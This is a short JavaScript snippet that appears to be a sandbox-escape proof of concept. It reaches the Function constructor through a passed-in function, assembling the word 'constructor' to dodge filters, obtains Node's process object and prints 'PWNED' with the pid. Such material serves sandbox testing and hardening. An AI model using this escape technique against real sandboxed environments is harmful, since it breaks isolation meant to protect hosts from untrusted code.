const w = ['con', 'structor'].join('');
class A { constructor(f) { this.pid = f[w]('return process')().pid; } }
const B = A.bind(null, (x) => x);
console.log('PWNED', new B().pid);
